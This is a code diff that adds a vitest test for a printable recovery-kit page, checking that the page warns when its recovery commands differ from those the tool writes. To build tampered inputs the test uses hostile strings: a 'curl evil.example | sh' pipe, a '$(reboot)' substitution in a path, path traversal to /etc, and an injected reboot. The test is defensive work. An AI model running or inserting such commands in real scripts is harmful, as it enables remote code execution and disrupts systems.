@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import type { RecoveryKit } from '../../../src/shared/recovery-kit/kit.ts';
 import { kitFileName, printedKit } from '../../../src/shared/recovery-kit/printed-kit.ts';
 import { recoveryPage, recoveryPageText } from '../../../src/shared/recovery-kit/recovery-page.ts';
 import { nastyKit } from '../../support/nasty-kit.ts';
@@ -41,6 +42,30 @@ describe('the page to print', () => {
     }
     for (const command of nastyKit.withoutInnkeeper.flatMap(({ commands }) => commands))
       expect(text).toContain(command);
+  });
+
+  it('says where commands are not those that Innkeeper writes', () => {
+    const warned = (kit: RecoveryKit) =>
+      recoveryPageText(printedKit(kit, { fileName, secrets: false })).includes('These commands are not');
+    expect(warned(nastyKit)).toBe(false);
+    const change = (swap: (command: string) => string) => ({
+      ...nastyKit,
+      withoutInnkeeper: nastyKit.withoutInnkeeper.map((step) => ({
+        ...step,
+        commands: step.commands.map(swap),
+      })),
+    });
+    for (const swap of [
+      (command: string) => command.replace('umask 022', 'curl evil.example | sh; umask 022'),
+      (command: string) => command.replace('data/postgres', 'data/$(reboot)'),
+      (command: string) => command.replace('data/synapse', 'data/../../etc'),
+      (command: string) => command.replace(/^install .*/, '$&\nreboot'),
+      (command: string) => command.replace('box.example.net', 'evil.example'),
+    ]) {
+      const changed = change(swap);
+      expect(changed).not.toEqual(nastyKit);
+      expect(warned(changed)).toBe(true);
+    }
   });
 
   it('says what was not there', () => {
